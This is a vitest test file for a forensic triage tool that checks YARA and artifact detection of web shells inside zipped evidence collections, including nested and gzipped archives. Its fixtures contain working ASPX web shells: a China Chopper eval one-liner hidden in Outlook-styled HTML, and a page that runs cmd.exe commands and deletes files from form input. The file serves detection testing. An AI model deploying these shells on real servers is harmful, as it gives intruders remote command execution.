import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runScan } from '../../src/case/index.js';
import { IssueCollector } from '../../src/core/index.js';
import type { Case, Finding } from '../../src/model/index.js';
import { artifactDetector } from '../../src/verdict/index.js';
import { builtinYaraDir, compileYaraFiles, findYaraFiles, scanBuffer, yaraDetector } from '../../src/yara/index.js';
import { buildZip } from '../factories/zip.js';

/**
 * YARA and the artifact checks over a zipped triage collection, read in place through Kahu's own intake: the
 * KAPE layout (`C/Program Files/...`), the Velociraptor layout (`uploads/auto/C%3A/...`), a gzip inside the zip,
 * a zip inside the zip (and one inside that), and an entry over the YARA cap.
 */

const OWA = 'C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth';
const HTML = '<html><head><title>Outlook</title></head><body>\r\n';
const CHOPPER = '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>';
const SHELL = Buffer.from(HTML + CHOPPER);
const LOGON = Buffer.from(
  '<%@ Page Language="C#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\n<html><body><form action="/owa/auth.owa" method="POST"></form></body></html>',
);
const SPY = Buffer.from(
  '<%@ Page Language="C#" %><% var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);' +
    ' foreach (var f in System.IO.Directory.GetFiles(Request.Form["d"])) {} System.IO.File.Delete(Request.Form["x"]); %>',
);
const VELO_SPY = 'uploads/auto/C%3A/inetpub/wwwroot/aspnet_client/system_web/s.aspx';

let dir: string;
let zip: string;
let c: Case;

const sha = (p: string): string => createHash('sha256').update(readFileSync(p)).digest('hex');
const yara = (cs: Case): Finding[] => cs.findings.filter((f) => f.engine === 'yara');
const at = (f: Finding): { path: string; rule: unknown; offset: unknown } => ({ path: f.events[0]!.prov.path, rule: f.detail?.rule, offset: f.detail?.offset });

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'kahu-yara-zip-'));
  mkdirSync(join(dir, 'loose'));
  writeFileSync(join(dir, 'loose/shell.aspx'), CHOPPER);
  zip = join(dir, 'Collection-EXCH01.zip');
  writeFileSync(
    zip,
    buildZip([
      { name: `${OWA}/ohyeah.aspx`, data: SHELL },
      { name: `${OWA}/logon.aspx`, data: LOGON },
      { name: VELO_SPY, data: SPY, method: 0 },
      { name: 'C/inetpub/wwwroot/aspnet_client/x.aspx.gz', data: gzipSync(Buffer.from(CHOPPER)) },
      // Staged by the intruder: a shell and, one more level down, another archive.
      { name: 'C/ProgramData/out.zip', data: buildZip([{ name: 'shell.aspx', data: SHELL }, { name: 'deeper.zip', data: buildZip([{ name: 'b.aspx', data: SHELL }]) }]) },
    ]),
  );
  const before = { sha: sha(zip), mtime: statSync(zip).mtimeMs };
  c = await runScan({ paths: [join(dir, 'loose'), zip], steps: [] });
  expect({ sha: sha(zip), mtime: statSync(zip).mtimeMs }).toEqual(before);
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('YARA over zip evidence, in place', () => {
  it('finds the web shells inside the archive with archive!/entry paths and offsets within the entry', () => {
    const found = yara(c).map(at);
    expect(found).toContainEqual({ path: `${zip}!/${OWA}/ohyeah.aspx`, rule: 'KAHU_WebShell_ChinaChopper_OneLiner', offset: HTML.length + CHOPPER.indexOf('Language=') });
    expect(found).toContainEqual({ path: `${zip}!/C/inetpub/wwwroot/aspnet_client/x.aspx.gz!/x.aspx`, rule: 'KAHU_WebShell_ChinaChopper_OneLiner', offset: CHOPPER.indexOf('Language=') });
    // Plain files on disk are scanned the same way.
    expect(found).toContainEqual({ path: join(dir, 'loose/shell.aspx'), rule: 'KAHU_WebShell_ChinaChopper_OneLiner', offset: CHOPPER.indexOf('Language=') });
    // The offset is the one YARA reports on the entry's own bytes (a stored entry: not the offset in the archive).
    const iss = new IssueCollector();
    const rules = compileYaraFiles(findYaraFiles([builtinYaraDir()], iss), iss);
    const direct = scanBuffer(SPY, { evidenceId: 'x', path: 'x', time: null, host: null }, rules).map((f) => [f.detail?.rule, f.detail?.offset]);
    expect(direct).toHaveLength(1);
    expect(found.filter((f) => f.path === `${zip}!/${VELO_SPY}`).map((f) => [f.rule, f.offset])).toEqual(direct);
  });

  it('each finding points at its manifest entry; the shipped logon page gives nothing', () => {
    for (const f of yara(c)) {
      const ev = c.evidence.find((e) => e.id === f.events[0]!.prov.evidenceId);
      expect(ev?.path).toBe(f.events[0]!.prov.path);
    }
    expect(c.findings.filter((f) => f.events.some((e) => e.prov.path.endsWith('/logon.aspx')))).toEqual([]);
  });

  it('a zip inside the zip is expanded and scanned, one level; the level below is reported as not scanned', () => {
    expect(yara(c).map(at)).toContainEqual({
      path: `${zip}!/C/ProgramData/out.zip!/shell.aspx`,
      rule: 'KAHU_WebShell_ChinaChopper_OneLiner',
      offset: HTML.length + CHOPPER.indexOf('Language='),
    });
    expect(yara(c).filter((f) => f.events[0]!.prov.path.includes('deeper.zip!/'))).toEqual([]);
    const deeper = c.issues.filter((i) => i.location?.path === `${zip}!/C/ProgramData/out.zip!/deeper.zip`);
    expect(deeper).toEqual([expect.objectContaining({ severity: 'warning', code: 'unrecognised-format' })]);
    expect(deeper[0]?.message).toMatch(/not expanded.*neither parsed nor YARA-scanned/);
  });

  it('artifact checks see the same entries: web shell folders in both layouts, the archive in ProgramData', () => {
    const artifacts = c.findings.filter((f) => f.engine === 'artifact').map((f) => [f.rule.id, f.events[0]!.prov.path, f.events[0]!.values.TargetFilename]);
    expect(artifacts).toEqual(
      expect.arrayContaining([
        ['kahu-exchange-artifact-owa-auth-page', `${zip}!/${OWA}/ohyeah.aspx`, `/${OWA}/ohyeah.aspx`.replaceAll('/', '\\')],
        ['kahu-exchange-artifact-aspnet-client-page', `${zip}!/${VELO_SPY}`, 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\s.aspx'],
        ['kahu-exchange-artifact-programdata-archive', `${zip}!/C/ProgramData/out.zip`, '\\C\\ProgramData\\out.zip'],
      ]),
    );
    expect(artifacts.filter(([, p]) => String(p).endsWith('logon.aspx'))).toEqual([]);
  });

  it('an entry over the YARA cap is reported by name and not scanned', async () => {
    const big = join(dir, 'big.zip');
    const padded = Buffer.concat([Buffer.from('x'.repeat(8000)), SHELL]);
    writeFileSync(big, buildZip([{ name: 'C/Windows/Temp/big.aspx', data: padded }, { name: `${OWA}/small.aspx`, data: SHELL }]));
    const iss = new IssueCollector();
    const rules = compileYaraFiles(findYaraFiles([builtinYaraDir()], iss), iss);
    const cs = await runScan({ paths: [big], detectors: [yaraDetector(rules, { maxBytes: 4096 }), artifactDetector()], steps: [] });
    expect(yara(cs).map((f) => f.events[0]!.prov.path)).toEqual([`${big}!/${OWA}/small.aspx`]);
    const skipped = cs.issues.filter((i) => i.code === 'io' && i.location?.path === `${big}!/C/Windows/Temp/big.aspx`);
    expect(skipped).toEqual([expect.objectContaining({ code: 'io', severity: 'info' })]);
    expect(skipped[0]?.message).toBe(`not YARA-scanned: ${padded.length}-byte file exceeds the 4096-byte scan cap`);
    // Still hashed and inventoried in full.
    expect(cs.evidence.find((e) => e.path.endsWith('big.aspx'))?.sha256).toBe(createHash('sha256').update(padded).digest('hex'));
  });
});
